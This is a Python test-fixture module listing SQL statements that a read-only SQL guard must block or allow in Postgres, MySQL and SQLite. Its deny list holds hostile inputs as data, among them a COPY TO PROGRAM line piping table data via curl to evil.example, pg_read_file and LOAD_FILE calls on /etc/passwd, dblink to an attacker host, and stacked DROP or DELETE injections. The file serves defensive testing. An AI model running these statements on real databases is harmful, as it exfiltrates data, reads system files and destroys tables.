"""Case tables for the read-only SQL guard (governance.sql.guard).

Shared by tests/test_sql_guard.py (parser layer) and by the end-to-end test
that pipes the same SQL through the management command.

MUST_DENY:  (dialect, sql, reason substring or None)
MUST_ALLOW: (dialect, sql, exact expected `tables` tuple)
"""

from __future__ import annotations

PG = "postgres"
MY = "mysql"
LITE = "sqlite"

MUST_DENY: list[tuple[str, str, str | None]] = [
    # --- writable CTEs (Postgres runs data-modifying WITH even under SELECT)
    (PG, "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", "write statement: DELETE"),
    (PG, "WITH x AS (INSERT INTO orders (id) VALUES (1) RETURNING *) SELECT * FROM x", "write statement: INSERT"),
    (PG, "WITH x AS (UPDATE orders SET total = 0 RETURNING *) SELECT * FROM x", "write statement: UPDATE"),
    (PG, "SELECT * FROM (WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x) AS s", "write statement: DELETE"),
    (
        PG,
        "SELECT * FROM customers WHERE id IN "
        "(WITH d AS (DELETE FROM orders RETURNING customer_id) SELECT customer_id FROM d)",
        "write statement: DELETE",
    ),
    (PG, "WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING x) SELECT * FROM a, b", "write statement: UPDATE"),
    # --- SELECT INTO
    (PG, "SELECT * INTO backup_customers FROM customers", "SELECT INTO"),
    (PG, "SELECT 1 AS a INTO TEMP scratch", "SELECT INTO"),
    (PG, "SELECT * INTO TEMPORARY TABLE scratch FROM customers", "SELECT INTO"),
    (MY, "SELECT 1 INTO @a", "SELECT INTO"),
    # --- locking clauses
    (PG, "SELECT * FROM customers FOR UPDATE", "locking clause"),
    (PG, "SELECT * FROM customers FOR SHARE", "locking clause"),
    (PG, "SELECT * FROM customers FOR NO KEY UPDATE", "locking clause"),
    (PG, "SELECT * FROM customers FOR KEY SHARE", "locking clause"),
    (PG, "SELECT * FROM customers FOR UPDATE OF customers SKIP LOCKED", "locking clause"),
    (PG, "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers FOR UPDATE)", "locking clause"),
    (MY, "SELECT * FROM customers LOCK IN SHARE MODE", "locking clause"),
    (MY, "SELECT * FROM customers FOR UPDATE", "locking clause"),
    # sqlglot keeps the Lock node for sqlite but silently drops it when
    # generating SQL; the guard must look at the tree, not at regenerated SQL.
    (LITE, "SELECT * FROM customers FOR UPDATE", "locking clause"),
    # --- COPY
    (PG, "COPY customers TO '/tmp/customers.csv'", "COPY"),
    (PG, "COPY customers TO PROGRAM 'curl -d @- http://evil.example'", "COPY"),
    (PG, "COPY customers FROM STDIN", "COPY"),
    (PG, "COPY (SELECT * FROM customers) TO '/tmp/x.csv'", "COPY"),
    # --- session / transaction control
    (PG, "SET search_path = evil, public", "SET"),
    (PG, "SET LOCAL statement_timeout = 0", "SET"),
    (PG, "SET ROLE postgres", "SET"),
    (PG, "SET SESSION AUTHORIZATION postgres", "SET"),
    (PG, "RESET ALL", "RESET"),
    (PG, "SELECT set_config('search_path', 'evil', false)", "function not allowed: set_config"),
    (PG, "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)", "set_config"),
    (MY, "SET @a = 1", "SET"),
    (MY, "SET SESSION sql_mode = ''", "SET"),
    (MY, "SELECT @a := 1", "variable assignment"),
    (PG, "BEGIN", "BEGIN"),
    (PG, "COMMIT", "COMMIT"),
    (PG, "ROLLBACK", "ROLLBACK"),
    (PG, "END", "COMMIT"),
    (PG, "START TRANSACTION", "not a query"),
    (PG, "SAVEPOINT s1", "not a query"),
    (MY, "START TRANSACTION", "BEGIN"),
    (LITE, "BEGIN IMMEDIATE", "BEGIN"),
    (PG, "DISCARD ALL", "not a query"),
    # --- stacked statements
    (PG, "SELECT 1; SELECT 2", "expected exactly one statement, got 2"),
    (PG, "SELECT 1; COMMIT; DELETE FROM orders", "expected exactly one statement, got 3"),
    (PG, "SELECT 1 /* harmless */; DROP TABLE customers", "exactly one statement"),
    (PG, "SELECT 1 -- comment\n; DELETE FROM orders", "exactly one statement"),
    (PG, "SELECT ';' AS a; DELETE FROM orders", "exactly one statement"),
    (PG, "SELECT 'it''s; fine'; DELETE FROM orders", "exactly one statement"),
    (PG, "SELECT $$;$$; DELETE FROM orders", "exactly one statement"),
    (MY, "SELECT 1; DROP TABLE customers", "exactly one statement"),
    (LITE, "SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x", "exactly one statement"),
    # sqlglot >= 30 folds a WHILE block and the statements after it into ONE
    # tree; statements are counted on the tokens, as the server splits them
    (PG, "WHILE (1 = 1) SELECT 1; DELETE FROM orders", "expected exactly one statement, got 2"),
    (MY, "WHILE (1 = 1) SELECT 1; SELECT 2; END", "expected exactly one statement, got 3"),
    (LITE, "SELECT 1; END", "exactly one statement"),
    # --- tokenizer disagreements (server sees code where sqlglot sees a string/comment)
    # sqlglot >= 30 reads backslash escapes in E'' strings like the server, so
    # this is two statements to both; the backslash rule still covers the
    # standard_conforming_strings=off reading of plain strings (next case).
    (PG, "SELECT E'\\'' ; DELETE FROM orders; --'", "exactly one statement"),
    # one string to sqlglot; `'a\''` + stacked DELETE with standard_conforming_strings=off
    (PG, "SELECT 'a\\''; DELETE FROM orders; --'", "backslash"),
    (PG, "SELECT 'a\\' ; DELETE FROM orders; --'", "exactly one statement"),
    (MY, "SELECT 'a\\'; DROP TABLE customers; -- '", "backslash"),
    (MY, 'SELECT "a\\"; DROP TABLE customers; -- "', "backslash"),
    (MY, "SELECT 1 /*!50000 , SLEEP(10) */", "comment"),
    (MY, "SELECT * FROM customers /*! INTO OUTFILE '/tmp/x' */", "comment"),
    (MY, "SELECT 1 /*M! , SLEEP(10) */", "comment"),
    # sqlglot >= 30 reads `--1` as `- -1` like MySQL, so this is two statements
    (MY, "SELECT 1 --1; DROP TABLE customers", "exactly one statement"),
    (PG, "SELECT U&\"\\0070g_read_file\"('/etc/passwd')", "unicode escape"),
    (PG, "SELECT U&'\\0041'", "unicode escape"),
    # --- optimizer hints that change session limits
    (MY, "SELECT /*+ SET_VAR(max_execution_time=0) */ * FROM customers", "optimizer hint"),
    (MY, "SELECT /*+ MAX_EXECUTION_TIME(100000000) */ * FROM customers", "optimizer hint"),
    (PG, "/*+ Set(statement_timeout 0) */ SELECT * FROM customers", "optimizer hint"),
    # --- dangerous functions
    (PG, "SELECT lo_export(12345, '/tmp/x')", "function not allowed: lo_export"),
    (PG, "SELECT lo_import('/etc/passwd')", "function not allowed: lo_import"),
    (PG, "SELECT lo_get(12345)", "function not allowed: lo_get"),
    (PG, "SELECT pg_read_file('/etc/passwd')", "function not allowed: pg_read_file"),
    (PG, "SELECT pg_catalog.pg_read_file('/etc/passwd')", "function not allowed: pg_read_file"),
    (PG, "SELECT \"pg_read_file\"('/etc/passwd')", "function not allowed: pg_read_file"),
    (PG, 'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')', "function not allowed: pg_read_file"),
    (PG, "SELECT PG_READ_FILE('/etc/passwd')", "function not allowed: pg_read_file"),
    (
        PG,
        "SELECT * FROM customers WHERE name IN (SELECT pg_read_file('/etc/passwd') FROM orders)",
        "function not allowed: pg_read_file",
    ),
    (PG, "WITH f AS (SELECT pg_read_file('/etc/passwd') AS t) SELECT * FROM f", "function not allowed: pg_read_file"),
    (PG, "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd') AS f(line)", "function not allowed: pg_read_file"),
    (PG, "SELECT COALESCE(NULL, (SELECT pg_read_file('/etc/passwd')))", "function not allowed: pg_read_file"),
    (PG, "SELECT CAST(pg_read_file('/etc/passwd') AS text)", "function not allowed: pg_read_file"),
    (PG, "SELECT pg_read_binary_file('/etc/passwd')", "function not allowed: pg_read_binary_file"),
    (PG, "SELECT * FROM pg_ls_dir('/')", "function not allowed: pg_ls_dir"),
    (PG, "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "function not allowed: dblink"),
    (PG, "SELECT dblink_exec('host=evil', 'DROP TABLE customers')", "function not allowed: dblink_exec"),
    (PG, "SELECT public.dblink_connect('c', 'host=evil')", "function not allowed: dblink_connect"),
    (PG, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "function not allowed: pg_terminate_backend"),
    (PG, "SELECT nextval('orders_id_seq')", "function not allowed: nextval"),
    (PG, "SELECT setval('orders_id_seq', 1)", "function not allowed: setval"),
    # sequence state is session state: currval / lastval are not data reads
    (PG, "SELECT currval('orders_id_seq')", "function not allowed: currval"),
    (PG, "SELECT lastval()", "function not allowed: lastval"),
    (PG, "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, true, '')", "function not allowed: query_to_xml"),
    (PG, "SELECT table_to_xml('secrets', true, true, '')", "function not allowed: table_to_xml"),
    (PG, "SELECT pg_sleep(10)", "function not allowed: pg_sleep"),
    (PG, "SELECT id FROM customers UNION SELECT pg_sleep_for('1 minute')::text::int", "pg_sleep_for"),
    (PG, "SELECT * FROM customers, LATERAL (SELECT pg_sleep(1)) AS s", "function not allowed: pg_sleep"),
    (PG, "SELECT txid_current()", "function not allowed: txid_current"),
    (PG, "SELECT pg_advisory_lock(1)", "function not allowed: pg_advisory_lock"),
    (PG, "SELECT pg_try_advisory_xact_lock(1)", "function not allowed: pg_try_advisory_xact_lock"),
    (PG, "SELECT pg_notify('chan', 'x')", "function not allowed: pg_notify"),
    (PG, "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "replication_slot"),
    (PG, "SELECT http_get('http://evil.example')", "function not allowed: http_get"),
    (PG, "SELECT * FROM customers ORDER BY (SELECT pg_reload_conf())", "function not allowed: pg_reload_conf"),
    (PG, "VALUES (pg_sleep(1))", "function not allowed: pg_sleep"),
    (MY, "SELECT SLEEP(10)", "function not allowed: sleep"),
    (MY, "SELECT `sleep`(10)", "function not allowed: sleep"),
    (MY, "SELECT BENCHMARK(100000000, MD5('a'))", "function not allowed: benchmark"),
    (MY, "SELECT LOAD_FILE('/etc/passwd')", "function not allowed: load_file"),
    (MY, "SELECT GET_LOCK('x', 10)", "function not allowed: get_lock"),
    (LITE, "SELECT load_extension('/tmp/evil.so')", "function not allowed: load_extension"),
    (LITE, "SELECT writefile('/tmp/x', 'data')", "function not allowed: writefile"),
    (LITE, "SELECT readfile('/etc/passwd')", "function not allowed: readfile"),
    (LITE, "SELECT * FROM fsdir('/')", "function not allowed: fsdir"),
    # --- MySQL file output / input
    (MY, "SELECT * FROM customers INTO OUTFILE '/tmp/x'", "parse error"),
    (MY, "SELECT * INTO OUTFILE '/tmp/x' FROM customers", "parse error"),
    (MY, "SELECT 1 INTO DUMPFILE '/tmp/x'", "parse error"),
    (MY, "LOAD DATA INFILE '/tmp/x' INTO TABLE customers", "parse error"),
    (MY, "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE customers", "parse error"),
    # --- SQLite pragmas / attachments
    (LITE, "PRAGMA writable_schema = 1", "PRAGMA"),
    (LITE, "PRAGMA table_info(customers)", "PRAGMA"),
    (LITE, "ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH"),
    (LITE, "DETACH DATABASE x", "DETACH"),
    (LITE, "VACUUM INTO '/tmp/copy.db'", "VACUUM"),
    # --- EXPLAIN (EXPLAIN ANALYZE executes the statement)
    (PG, "EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN"),
    (PG, "EXPLAIN SELECT * FROM customers", "EXPLAIN"),
    (MY, "EXPLAIN SELECT * FROM customers", "DESCRIBE"),
    (LITE, "EXPLAIN QUERY PLAN SELECT * FROM customers", "EXPLAIN"),
    # --- procedures, blocks, prepared statements
    (PG, "CALL do_something()", "CALL"),
    (MY, "CALL do_something()", "CALL"),
    (PG, "DO $$ BEGIN DELETE FROM orders; END $$", "DO"),
    (PG, "PREPARE p AS DELETE FROM orders", "PREPARE"),
    (PG, "EXECUTE p", "EXECUTE"),
    (MY, "EXECUTE s", "EXECUTE"),
    (MY, "PREPARE s FROM 'DROP TABLE customers'", "PREPARE"),
    (PG, "DECLARE c CURSOR FOR SELECT * FROM customers", "DECLARE"),
    # --- DDL / DML / privileges / maintenance
    (PG, "GRANT ALL ON customers TO public", "GRANT"),
    (PG, "REVOKE SELECT ON customers FROM analyst", "REVOKE"),
    (PG, "CREATE TABLE copy AS SELECT * FROM customers", "write statement: CREATE"),
    (PG, "CREATE VIEW v AS SELECT * FROM customers", "write statement: CREATE"),
    (PG, "DROP TABLE customers", "write statement: DROP"),
    (PG, "TRUNCATE customers", "write statement: TRUNCATE"),
    (PG, "ALTER TABLE customers ADD COLUMN x int", "write statement: ALTER"),
    (PG, "INSERT INTO customers (id) VALUES (1)", "write statement: INSERT"),
    (PG, "UPDATE customers SET name = 'x'", "write statement: UPDATE"),
    (PG, "DELETE FROM customers", "write statement: DELETE"),
    (PG, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "write statement: MERGE"),
    (
        PG,
        "WITH x AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM x",
        "write statement: MERGE",
    ),
    (PG, "COMMENT ON TABLE customers IS 'x'", "COMMENT"),
    (MY, "REPLACE INTO customers VALUES (1)", "REPLACE"),
    (LITE, "INSERT OR REPLACE INTO customers VALUES (1)", "write statement: INSERT"),
    (PG, "VACUUM customers", "VACUUM"),
    (PG, "ANALYZE customers", "ANALYZE"),
    (PG, "REINDEX TABLE customers", "REINDEX"),
    (PG, "REFRESH MATERIALIZED VIEW sales_summary", "REFRESH"),
    (PG, "LOCK TABLE customers", "unsupported statement: LOCK"),
    (PG, "LOCK customers IN ACCESS EXCLUSIVE MODE", "unsupported statement: LOCK"),
    (MY, "LOCK TABLES customers READ", "LOCK"),
    (PG, "LISTEN chan", "not a query: LISTEN"),
    (PG, "NOTIFY chan", "not a query: NOTIFY"),
    (PG, "CHECKPOINT", "not a query: CHECKPOINT"),
    # --- query shorthands: sqlglot >= 30 desugars these into SELECT trees
    (PG, "TABLE customers", "not a query: TABLE"),
    (PG, "TABLE ONLY customers", "not a query: TABLE"),
    (MY, "TABLE customers ORDER BY id LIMIT 1", "not a query: TABLE"),
    (PG, "SELECT * FROM (TABLE customers) AS s", "TABLE query shorthand"),
    (MY, "SELECT * FROM (TABLE customers) AS s", "TABLE query shorthand"),
    (PG, "SELECT 1 UNION TABLE customers", "TABLE query shorthand"),
    (PG, "WITH c AS (TABLE customers) SELECT * FROM c", "TABLE query shorthand"),
    (PG, "FROM customers", "not a query: FROM"),
    (LITE, "FROM customers SELECT id", "not a query: FROM"),
    (PG, "SELECT * FROM customers |> WHERE id > 1", "pipe syntax"),
    (LITE, "SELECT * FROM customers |> AGGREGATE count(*) GROUP BY id", "pipe syntax"),
    (MY, "USE other_db", "USE"),
    (MY, "SHOW TABLES", "SHOW"),
    (MY, "KILL 42", "KILL"),
    # --- empty / comment-only / garbage
    (PG, "", "empty statement"),
    (PG, "   \n\t ", "empty statement"),
    (PG, "-- comment only", "empty statement"),
    (MY, "/* only a comment */", "empty statement"),
    (LITE, ";", "empty statement"),
    (PG, "SELEC 1", "parse error"),
    (PG, "SELECT 'unterminated", "parse error"),
    (PG, "SELECT 1 /* /* nested */ ; DROP TABLE customers /* */", "parse error"),
]

MUST_ALLOW: list[tuple[str, str, tuple[str, ...]]] = [
    # --- joins, subqueries, derived tables
    (PG, "SELECT * FROM customers", ("customers",)),
    (
        PG,
        "SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id",
        ("customers", "orders"),
    ),
    (
        PG,
        "SELECT c.name, count(o.id) FROM public.customers AS c LEFT JOIN orders AS o "
        "ON o.customer_id = c.id GROUP BY c.name",
        ("orders", "public.customers"),
    ),
    (
        PG,
        "SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE total > 100)",
        ("customers", "orders"),
    ),
    (
        PG,
        "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
        ("customers", "orders"),
    ),
    (PG, "SELECT s.id FROM (SELECT id FROM customers) AS s", ("customers",)),
    (PG, "SELECT (SELECT max(total) FROM orders) AS top, name FROM customers", ("customers", "orders")),
    # --- CTEs
    (PG, "WITH c AS (SELECT * FROM customers) SELECT * FROM c", ("customers",)),
    (PG, "WITH customers AS (SELECT * FROM customers WHERE active) SELECT * FROM customers", ("customers",)),
    (PG, "WITH a AS (SELECT * FROM orders), b AS (SELECT * FROM a) SELECT * FROM b", ("orders",)),
    # a non-recursive CTE cannot see a later sibling: `b` inside `a` is a real table
    (PG, "WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a", ("b",)),
    # a CTE defined inside a subquery is not visible outside it
    (PG, "SELECT * FROM (WITH x AS (SELECT 1 AS a) SELECT * FROM x) AS s JOIN x ON true", ("x",)),
    # a schema-qualified name never refers to a CTE
    (PG, "WITH c AS (SELECT 1) SELECT * FROM public.c", ("public.c",)),
    # Postgres folds unquoted names: "Secrets" (CTE) and secrets (table) differ
    (PG, 'WITH "Secrets" AS (SELECT 1) SELECT * FROM secrets', ("secrets",)),
    (PG, "WITH a AS (SELECT 1 AS x) SELECT x FROM a UNION SELECT x FROM a", ()),
    # a CTE is visible in nested subqueries of its query
    (PG, "WITH a AS (SELECT 1 AS x) SELECT * FROM a WHERE x IN (SELECT x FROM a)", ()),
    (PG, "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT n FROM r", ()),
    (
        PG,
        "WITH RECURSIVE tree AS (SELECT id, manager_id FROM employees WHERE manager_id IS NULL "
        "UNION ALL SELECT e.id, e.manager_id FROM employees e JOIN tree t ON e.manager_id = t.id) "
        "SELECT * FROM tree",
        ("employees",),
    ),
    (MY, "WITH x AS (SELECT a FROM t) SELECT * FROM x JOIN u ON u.a = x.a", ("t", "u")),
    (LITE, "WITH RECURSIVE cnt(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM cnt WHERE x < 5) SELECT x FROM cnt", ()),
    # --- windows, aggregates, set operations, ordering
    (
        PG,
        "SELECT id, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY created_at DESC) AS rn FROM orders",
        ("orders",),
    ),
    (
        PG,
        "SELECT customer_id, sum(total) FROM orders GROUP BY customer_id HAVING sum(total) > 1000",
        ("orders",),
    ),
    (PG, "SELECT count(*) FILTER (WHERE total > 10) FROM orders", ("orders",)),
    (PG, "SELECT id FROM customers UNION SELECT customer_id FROM orders", ("customers", "orders")),
    (PG, "SELECT id FROM customers INTERSECT SELECT customer_id FROM orders", ("customers", "orders")),
    (PG, "SELECT id FROM customers EXCEPT SELECT customer_id FROM orders", ("customers", "orders")),
    (
        PG,
        "(SELECT id FROM customers) UNION ALL (SELECT id FROM archived_customers)",
        ("archived_customers", "customers"),
    ),
    (PG, "SELECT * FROM orders ORDER BY created_at DESC LIMIT 10 OFFSET 20", ("orders",)),
    (PG, "(SELECT 1)", ()),
    # --- expressions
    (PG, "SELECT CASE WHEN total > 100 THEN 'big' ELSE 'small' END FROM orders", ("orders",)),
    (PG, "SELECT COALESCE(nickname, name), NULLIF(a, b) FROM customers", ("customers",)),
    (
        PG,
        "SELECT date_trunc('month', created_at), EXTRACT(YEAR FROM created_at) FROM orders "
        "WHERE created_at > now() - interval '7 days'",
        ("orders",),
    ),
    (PG, "SELECT lower(name), length(name), log(2, 8) FROM customers", ("customers",)),
    (PG, "SELECT t.sleep, t.edit FROM timesheets AS t", ("timesheets",)),
    # --- strings that look dangerous
    (PG, "SELECT * FROM audit_log WHERE action LIKE 'delete%' OR action = 'drop table'", ("audit_log",)),
    (PG, "SELECT * FROM notes WHERE body = 'a; DELETE FROM notes'", ("notes",)),
    (PG, "SELECT 'drop table customers; --' AS a", ()),
    (PG, "SELECT $$; DELETE FROM orders$$ AS s", ()),
    (PG, "SELECT 'O''Brien' AS name", ()),
    (PG, "SELECT 'C:\\temp' AS path", ()),
    (PG, "SELECT * FROM customers WHERE name = '홍길동'", ("customers",)),
    # --- comments
    (PG, "SELECT 1 /* ; DELETE FROM x */", ()),
    (PG, "SELECT 1; -- x", ()),
    (PG, "SELECT 1;", ()),
    (PG, "-- leading comment\nSELECT id FROM customers -- trailing", ("customers",)),
    (MY, "SELECT 1 -- fine", ()),
    (MY, "SELECT 1 # fine", ()),
    # --- identifiers and qualification
    (PG, 'SELECT "Name" FROM "Customers"', ("customers",)),
    (PG, "SELECT * FROM PUBLIC.CUSTOMERS", ("public.customers",)),
    (PG, "SELECT * FROM sales.orders", ("sales.orders",)),
    (PG, "SELECT * FROM analytics.sales.orders", ("analytics.sales.orders",)),
    (
        PG,
        "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'",
        ("information_schema.columns",),
    ),
    (PG, "SELECT tablename FROM pg_catalog.pg_tables", ("pg_catalog.pg_tables",)),
    (MY, "SELECT `name` FROM `shop`.`customers`", ("shop.customers",)),
    (MY, "SELECT 1 FROM DUAL", ()),
    (LITE, "SELECT * FROM main.users", ("main.users",)),
    (LITE, "SELECT * FROM [order items]", ("order items",)),
    # sqlglot >= 30 parses INDEXED BY, keeping the index name as a Table node
    (LITE, "SELECT * FROM customers INDEXED BY idx_customers_name", ("customers",)),
    # --- dialect features
    (
        PG,
        "SELECT data->>'name', data #>> '{a,b}' FROM events WHERE data @> '{\"a\": 1}'::jsonb",
        ("events",),
    ),
    (PG, "SELECT * FROM generate_series(1, 10) AS g(n)", ()),
    (PG, "WITH x AS MATERIALIZED (SELECT 1 AS a) SELECT a FROM x", ()),
    (PG, "SELECT * FROM orders ORDER BY id FETCH FIRST 5 ROWS ONLY", ("orders",)),
    (PG, "SELECT array(SELECT id FROM orders) AS ids", ("orders",)),
    (PG, "SELECT * FROM json_to_record('{\"a\": 1}') AS x(a int)", ()),
    (
        PG,
        "SELECT d::date, count(o.id) FROM generate_series('2024-01-01'::date, '2024-01-31', '1 day') AS d "
        "LEFT JOIN orders o ON o.created_at::date = d::date GROUP BY d",
        ("orders",),
    ),
    (PG, "SELECT * FROM unnest(ARRAY[1, 2]) AS u(x)", ()),
    (
        PG,
        "SELECT o.id, e.value FROM orders o CROSS JOIN LATERAL jsonb_array_elements(o.items) AS e",
        ("orders",),
    ),
    (PG, "SELECT * FROM ROWS FROM (generate_series(1, 2), generate_series(1, 3)) AS r(a, b)", ()),
    (PG, "VALUES (1, 'a'), (2, 'b')", ()),
    # sqlglot rewrites a bare VALUES in a CTE / set operation as SELECT * FROM (VALUES ...)
    (PG, "WITH v AS (VALUES (1)) SELECT * FROM v", ()),
    (LITE, "VALUES (1) UNION SELECT 2", ()),
    (PG, "SELECT * FROM (VALUES (1), (2)) AS v(a)", ()),
    (
        MY,
        "SELECT DATE_FORMAT(created_at, '%Y-%m'), COUNT(*) FROM orders "
        "WHERE created_at > DATE_SUB(NOW(), INTERVAL 7 DAY) GROUP BY 1",
        ("orders",),
    ),
    (MY, "SELECT JSON_EXTRACT(attrs, '$.color'), attrs->>'$.size' FROM products", ("products",)),
    (MY, "SELECT c.name FROM customers c WHERE c.name LIKE '%drop table%'", ("customers",)),
    (LITE, "SELECT first_name || ' ' || last_name FROM people", ("people",)),
    (LITE, "SELECT strftime('%Y', created_at), count(*) FROM orders GROUP BY 1", ("orders",)),
    (LITE, "SELECT value FROM json_each('[1, 2, 3]')", ()),
    (LITE, "SELECT p.id, j.value FROM people p, json_each(p.tags) AS j", ("people",)),
]
